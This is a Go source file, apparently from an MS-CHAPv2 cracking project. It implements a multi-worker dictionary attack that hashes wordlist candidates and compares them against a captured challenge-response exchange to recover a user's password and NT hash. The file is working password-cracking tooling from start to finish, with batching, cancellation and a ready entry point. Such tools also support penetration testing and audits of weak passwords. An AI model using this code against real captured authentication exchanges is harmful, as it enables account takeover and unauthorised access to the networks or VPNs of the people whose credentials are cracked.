package attack

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"github.com/famez/mschapv2-crack/eap"
	"github.com/famez/mschapv2-crack/session"

	"github.com/golang/glog"
)

//Candidates handed to a worker at once
const batchSize = 256

type State uint32

const (
	Idle State = iota
	Running
	Found
	Exhausted
	Cancelled
	Aborted //Encoding error under the abort policy or wordlist read failure
)

var stateNames = map[State]string{
	Idle:      "idle",
	Running:   "running",
	Found:     "found",
	Exhausted: "exhausted",
	Cancelled: "cancelled",
	Aborted:   "aborted",
}

func (state State) String() string {
	if name, ok := stateNames[state]; ok {
		return name
	}
	return fmt.Sprintf("State(%d)", uint32(state))
}

//Result of a dictionary attack. Password, Position, NTHash and Response
//are only set when State is Found.
type Result struct {
	State     State
	Password  string
	Position  uint64 //1-indexed line of the password in the wordlist
	NTHash    [eap.NtHashLen]byte
	Challenge [eap.ChallengeLen]byte
	Response  [eap.NtResponseLen]byte
	Tried     uint64 //Candidates evaluated, skipped ones included
	Skipped   uint64
	Elapsed   time.Duration
}

//Rate returns the candidates tried per second
func (result *Result) Rate() float64 {
	if result.Elapsed <= 0 {
		return 0
	}
	return float64(result.Tried) / result.Elapsed.Seconds()
}

type candidate struct {
	position uint64
	password string
}

//Searcher runs a dictionary attack against a single exchange.
//A Searcher runs once, create it with NewSearcher.
type Searcher struct {
	Exchange         *session.Exchange
	Workers          int
	ProgressInterval uint64            //0 disables progress reports
	Progress         func(tried uint64) //Called from the worker goroutines
	Policy           session.EncodingPolicy

	state    atomic.Uint32
	stop     atomic.Bool
	winner   atomic.Pointer[Result]
	abortErr atomic.Pointer[eap.EncodingError]
	tried    atomic.Uint64
	skipped  atomic.Uint64

	haltOnce sync.Once
	done     chan struct{}
}

func NewSearcher(exchange *session.Exchange) *Searcher {
	return &Searcher{
		Exchange:         exchange,
		Workers:          1,
		ProgressInterval: session.DefaultProgressInterval,
		Policy:           session.SkipCandidate,
		done:             make(chan struct{}),
	}
}

func (searcher *Searcher) State() State {
	return State(searcher.state.Load())
}

//Stop interrupts the search. Workers finish the candidate they are evaluating.
func (searcher *Searcher) Stop() {
	glog.V(1).Infoln("Search stop requested")
	searcher.halt()
}

func (searcher *Searcher) halt() {
	searcher.haltOnce.Do(func() {
		searcher.stop.Store(true)
		close(searcher.done)
	})
}

//Run consumes the wordlist until the password is found or the wordlist is exhausted.
//On cancellation it returns ErrCancelled along with the partial result.
func (searcher *Searcher) Run(ctx context.Context, words Wordlist) (*Result, error) {

	if searcher.Exchange == nil {
		return nil, errors.New("no exchange to attack")
	}

	if !searcher.state.CompareAndSwap(uint32(Idle), uint32(Running)) {
		return nil, fmt.Errorf("searcher is %s", searcher.State())
	}

	challenge := searcher.Exchange.Challenge()

	if ctx.Err() != nil {
		searcher.halt()
	}

	go func() {
		select {
		case <-ctx.Done():
			searcher.halt()
		case <-searcher.done:
		}
	}()

	glog.V(1).Infof("Attacking %s with %d workers", searcher.Exchange, searcher.Workers)

	start := time.Now()

	if searcher.Workers > 1 {
		searcher.runParallel(words, challenge)
	} else {
		searcher.runSequential(words, challenge)
	}

	elapsed := time.Since(start)

	stopped := searcher.stop.Load()

	searcher.halt()

	result := &Result{
		Challenge: challenge,
		Tried:     searcher.tried.Load(),
		Skipped:   searcher.skipped.Load(),
		Elapsed:   elapsed,
	}

	var err error

	if winner := searcher.winner.Load(); winner != nil {
		result.State = Found
		result.Password = winner.Password
		result.Position = winner.Position
		result.NTHash = winner.NTHash
		result.Response = winner.Response
	} else if encodingErr := searcher.abortErr.Load(); encodingErr != nil {
		result.State = Aborted
		err = encodingErr
	} else if readErr := words.Err(); readErr != nil {
		result.State = Aborted
		err = fmt.Errorf("reading wordlist: %w", readErr)
	} else if stopped {
		result.State = Cancelled
		err = ErrCancelled
	} else {
		result.State = Exhausted
	}

	searcher.state.Store(uint32(result.State))

	glog.V(1).Infof("Search %s after %d candidates (%d skipped) in %v",
		result.State, result.Tried, result.Skipped, elapsed)

	return result, err
}

func (searcher *Searcher) runSequential(words Wordlist, challenge [eap.ChallengeLen]byte) {

	var position uint64

	for !searcher.stop.Load() && words.Scan() {

		position++

		if searcher.try(candidate{position: position, password: words.Text()}, challenge) {
			return
		}
	}
}

//runParallel reads the wordlist in the calling goroutine and hands batches to the workers
func (searcher *Searcher) runParallel(words Wordlist, challenge [eap.ChallengeLen]byte) {

	batches := make(chan []candidate, searcher.Workers)

	var wg sync.WaitGroup

	for i := 0; i < searcher.Workers; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for batch := range batches {
				for _, c := range batch {
					if searcher.stop.Load() {
						return
					}
					searcher.try(c, challenge)
				}
			}
		}()
	}

	var position uint64

	batch := make([]candidate, 0, batchSize)

	send := func() bool {
		select {
		case batches <- batch:
			batch = make([]candidate, 0, batchSize)
			return true
		case <-searcher.done:
			return false
		}
	}

	for !searcher.stop.Load() && words.Scan() {

		position++

		batch = append(batch, candidate{position: position, password: words.Text()})

		if len(batch) == batchSize && !send() {
			break
		}
	}

	if len(batch) > 0 && !searcher.stop.Load() {
		send()
	}

	close(batches)

	wg.Wait()
}

//try evaluates one candidate and reports whether the search is over
func (searcher *Searcher) try(c candidate, challenge [eap.ChallengeLen]byte) bool {

	defer searcher.count()

	hash, err := eap.NtPasswordHash(c.password)

	if err != nil {

		switch searcher.Policy {
		case session.SubstituteInvalid:
			hash, err = eap.NtPasswordHash(eap.SubstituteInvalid(c.password))
		case session.AbortSearch:
			var encodingErr *eap.EncodingError
			if errors.As(err, &encodingErr) {
				searcher.abortErr.CompareAndSwap(nil, encodingErr)
			}
			glog.Errorf("Candidate %d: %v", c.position, err)
			searcher.halt()
			return true
		}

		if err != nil {
			searcher.skipped.Add(1)
			glog.V(1).Infof("Skipping candidate %d: %v", c.position, err)
			return false
		}
	}

	response := eap.ChallengeResponse(challenge, hash)

	if response != searcher.Exchange.NTResponse {
		return false
	}

	result := &Result{
		Password: c.password,
		Position: c.position,
		NTHash:   hash,
		Response: response,
	}

	if searcher.winner.CompareAndSwap(nil, result) {
		glog.V(1).Infof("Password found at line %d", c.position)
		searcher.halt()
	} else {
		glog.V(2).Infof("Discarding match at line %d, already found", c.position)
	}

	return true
}

func (searcher *Searcher) count() {

	tried := searcher.tried.Add(1)

	if searcher.Progress != nil && searcher.ProgressInterval > 0 && tried%searcher.ProgressInterval == 0 {
		searcher.Progress(tried)
	}
}

//GuessPasswordFromMsCHAPv2 runs a dictionary attack with the configured wordlist, workers and policies
func GuessPasswordFromMsCHAPv2(ctx context.Context, exchange *session.Exchange, progress func(tried uint64)) (*Result, error) {

	config := session.GetConfig()

	words, err := OpenWordlist(config.GetPasswordsFile())
	if err != nil {
		glog.V(1).Infoln(err)
		return nil, err
	}

	defer words.Close()

	defer glog.V(2).Infoln("Passwords scanner finished")

	searcher := NewSearcher(exchange)
	searcher.Workers = config.GetWorkers()
	searcher.ProgressInterval = config.GetProgressInterval()
	searcher.Policy = config.GetEncodingPolicy()
	searcher.Progress = progress

	return searcher.Run(ctx, words)
}
